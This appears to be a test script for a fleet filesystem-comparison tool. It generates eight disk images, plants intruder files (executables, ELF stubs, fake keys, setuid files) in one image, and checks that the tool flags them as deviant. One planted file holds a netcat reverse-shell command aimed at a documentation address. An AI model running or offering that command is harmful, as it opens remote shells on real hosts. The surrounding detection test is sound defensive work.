#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Hiding where everything changes. Eight instances have a dozen places of names
# and contents of their own; in one of them an intruder's file lies in each, its
# name of the place's own form: executable, a script, a library, a private key,
# a set-id file. All are found. Data and text under such names are not told from
# the others', which is printed. The healthy siblings have nothing to show.

# shellcheck source=tests/mount/lib.sh
. "$(dirname "$0")/lib.sh"
need python3 mke2fs
[ "$(id -u)" -eq 0 ] || need fakeroot

# What each member has in each place, and what the intruder puts there.
cat >"$dir/plant.py" <<'END'
import base64
import hashlib
import json
import os
import random
import struct
import sys

folder = sys.argv[1]
EVIL = 5
ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789"


def word(rnd, n, letters):
    # one without a digit, hardly ever met, could be a word of a language
    while True:
        w = "".join(rnd.choice(letters) for _ in range(n))
        if any(c.isdigit() for c in w) and any(c.isalpha() for c in w):
            return w


def hexes(rnd, n):
    return word(rnd, n, "0123456789abcdef")


def sess(rnd):
    return "sess_" + word(rnd, 26, ALNUM)


def private(rnd, boot):
    return "systemd-private-%s-%s.service-%s" % (
        boot, rnd.choice(["ntpd", "apache2", "logind"]),
        word(rnd, 6, ALNUM + ALNUM.upper()))


def uuid(rnd):
    h = hexes(rnd, 32)
    return "-".join((h[:8], h[8:12], h[12:16], h[16:20], h[20:]))


def elf(kind):
    head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", kind, 62, 1)
    return head + bytes(64) + b"code" * 200


# The last line makes each different; all begin when the images are made.
def log(rnd, what):
    lines = ["Sep 21 14:13:%02d web %s[%d]: start %s" %
             (20 + i, what, rnd.randrange(9999), hexes(rnd, 8)) for i in range(3)]
    return ("\n".join(lines) + "\n").encode()


def data(rnd):
    return bytes(rnd.randrange(128, 256) for _ in range(300)) + b"\0\1"


# name, folder, how a name is made, what is usual there, its mode
def places(rnd, i):
    mid = hashlib.md5(b"id%d" % i).hexdigest()
    boot = hashlib.md5(b"boot%d" % i).hexdigest()
    n, day = iter(range(100)), iter(range(28))
    users = iter(rnd.sample(range(10000), 100))
    return mid, [
        ("log", "var/log", lambda: "app-%s.log" % uuid(rnd), "log", 0o640),
        ("rotated", "var/log", lambda: "auth.log.%d" % (next(n) + 1), "log", 0o640),
        ("dated", "var/log", lambda: "auth.log-202609%02d" % (next(day) + 1), "log", 0o640),
        ("journal", f"var/log/journal/{mid}", lambda: "system@%s-%s-%s.journal" % (
            hexes(rnd, 32), "%016x" % rnd.randrange(1 << 40), hexes(rnd, 16)),
         "journal", 0o640),
        ("cache", "var/cache/app", lambda: "obj-" + hexes(rnd, 8), "data", 0o644),
        ("cache of text", "var/cache/page", lambda: hexes(rnd, 32), "text", 0o644),
        ("tmp", "tmp", lambda: private(rnd, boot), "folder", 0o700),
        ("var/tmp", "var/tmp", lambda: private(rnd, boot), "folder", 0o700),
        ("in tmp", "tmp/" + private(rnd, boot) + "/tmp",
         lambda: "tmp." + word(rnd, 10, ALNUM + ALNUM.upper()), "data", 0o600),
        ("sessions", "var/lib/php/sessions", lambda: sess(rnd), "text", 0o600),
        ("spool", "var/spool/queue", lambda: "msg-%d" % rnd.randrange(10**9, 10**10), "text", 0o600),
        ("uuids", "var/lib/app/tasks", lambda: uuid(rnd), "data", 0o644),
        # of no form: a name of its own for each
        ("mail", "var/spool/mail", lambda: "user%d" % next(users), "text", 0o660),
    ]


def usual(rnd, kind):
    if kind == "log":
        return log(rnd, "app")
    if kind == "journal":
        return b"LPKSHHRH" + data(rnd)
    if kind == "text":
        return ("text %s\n" % hexes(rnd, 16)).encode()
    return data(rnd)


def write(root, path, content, mode):
    full = os.path.join(root, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(content)
    os.chmod(full, mode)


def key(rnd):
    body = base64.encodebytes(bytes(rnd.randrange(256) for _ in range(200))).decode()
    return ("-----BEGIN PRIVATE KEY-----\n%s-----END PRIVATE KEY-----\n" % body).encode()


def intruders(rnd, kind, mode):
    like = usual(rnd, "data" if kind == "folder" else kind)
    mode = 0o600 if kind == "folder" else mode
    return [("executable", like, mode | 0o111),
            ("script", b"#!/bin/sh\nid\n", mode),
            ("library", elf(3), mode),
            ("program", elf(2), mode),
            ("key", key(rnd), mode),
            ("setuid", like, mode | 0o4000),
            ("text", b"nc -e /bin/sh 192.0.2.1 4444\n", mode),
            ("data", data(rnd), mode)]


def make(i, answers):
    rnd = random.Random(i * 1000003)
    root = f"{folder}/t{i}"
    mid, all_places = places(rnd, i)
    write(root, "etc/hostname", b"web-%d\n" % i, 0o644)
    write(root, "etc/machine-id", mid.encode() + b"\n", 0o444)
    write(root, "var/log/auth.log", log(rnd, "sshd"), 0o640)
    write(root, "var/log/syslog", log(rnd, "syslog"), 0o640)
    write(root, f"var/log/journal/{mid}/system.journal", usual(rnd, "journal"), 0o640)
    write(root, "var/lib/app/state", ("state %s\n" % hexes(rnd, 20)).encode(), 0o644)
    write(root, "var/lib/app/db", data(rnd), 0o600)
    for name, at, form, kind, mode in all_places:
        os.makedirs(f"{root}/{at}", exist_ok=True)
        for _ in range(3):
            path = f"{at}/{form()}"
            if kind == "folder":
                os.makedirs(f"{root}/{path}", mode=mode, exist_ok=True)
                os.makedirs(f"{root}/{path}/tmp", exist_ok=True)
            else:
                write(root, path, usual(rnd, kind), mode)
        if i != EVIL:
            continue
        for what, content, own in intruders(rnd, kind, mode):
            path = f"{at}/{form()}"
            write(root, path, content, own)
            answers.append((name, what, path))
    if i != EVIL:
        return
    # what all have, replaced in place
    for path, mode in (("var/lib/app/state", 0o644), ("var/log/syslog", 0o640)):
        write(root, path, elf(3), mode)
        answers.append((path, "library", path))


answers = []
for i in range(1, 9):
    make(i, answers)
with open(f"{folder}/answers.json", "w") as f:
    json.dump(answers, f)
END
as_root() { if [ "$(id -u)" -eq 0 ]; then bash -c "$1"; else fakeroot bash -c "$1"; fi; }
export dir
export E2FSPROGS_FAKE_TIME=1790000000	# 2026-09-21 14:13:20
as_root '
	umask 022
	python3 "$dir/plant.py" "$dir" || exit 1
	for i in 1 2 3 4 5 6 7 8; do
		find "$dir/t$i" -exec touch -h -d "2026-09-21 14:14:00Z" {} +
		truncate -s 16M "$dir/i-$i.raw"
		mke2fs -q -F -t ext4 -b 1024 -N 1000 -O ^has_journal \
			-d "$dir/t$i" "$dir/i-$i.raw" || exit 1
	done' || { fail "no images"; finish; }

attach --asg web "$dir"/i-?.raw
"$HERDFS" list --asg web --all --expand --json >"$dir/list.json" ||
	fail "herdfs list failed"
python3 - "$dir" <<'END' || failed=1
import json
import sys

folder = sys.argv[1]
with open(f"{folder}/list.json") as f:
    findings = json.load(f)["findings"]
with open(f"{folder}/answers.json") as f:
    answers = json.load(f)
MUST = {"executable", "script", "library", "program", "key", "setuid"}
bad = 0
found = {f["path"].lstrip("/"): f for f in findings if f["instance"] == "i-5"}
missed = {}
for place, what, path in answers:
    f = found.get(path)
    cls = f["class"] if f else "same"
    if what in MUST:
        if cls != "deviant":
            print(f"FAIL: {place}: {what} is {cls}: {path}", f and f["reasons"])
            bad += 1
    elif cls == "deviant":
        print(f"told apart: {what} in {place}")
    else:
        missed.setdefault(what, []).append(place)
        if cls != "volatile":
            print(f"FAIL: {place}: {what} is {cls}, not even listed: {path}")
            bad += 1
for what, where in missed.items():
    print(f"not told apart: {what} in a name of the form: {', '.join(where)}")
planted = {path for _, _, path in answers}
for f in findings:
    path = f["path"].lstrip("/")
    if f["class"] == "deviant" and (f["instance"] != "i-5" or path not in planted):
        print(f"FAIL: {f['instance']} {path}: {f['reasons']}, though healthy")
        bad += 1
n = sum(what in MUST for _, what, _ in answers)
print(f"{n} hidden, {bad} wrong; {sum(f['class'] == 'volatile' for f in findings)} volatile")
sys.exit(bad > 0)
END
finish
